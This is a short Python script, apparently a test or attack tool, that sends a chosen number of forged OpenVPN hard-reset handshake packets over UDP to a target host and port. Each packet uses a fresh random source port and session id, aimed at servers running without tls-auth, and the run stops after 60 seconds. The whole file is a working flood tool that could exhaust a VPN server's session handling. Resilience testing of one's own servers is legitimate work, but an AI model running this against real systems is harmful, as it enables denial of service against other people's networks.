#!/usr/bin/env python3
"""Send N forged P_CONTROL_HARD_RESET_CLIENT_V2 packets (no tls-auth) to
HOST:PORT, each from a fresh socket (a new random source port) and with a
random session id. Bounded: at most 60 s.

  spoof_resets.py HOST PORT N
"""
import os
import socket
import sys
import time

host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
deadline = time.monotonic() + 60
sent = 0
for _ in range(n):
    if time.monotonic() > deadline:
        break
    pkt = bytes([7 << 3]) + os.urandom(8) + b"\x00" + b"\x00\x00\x00\x00"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 0))
    s.sendto(pkt, (host, port))
    s.close()
    sent += 1
print(sent)
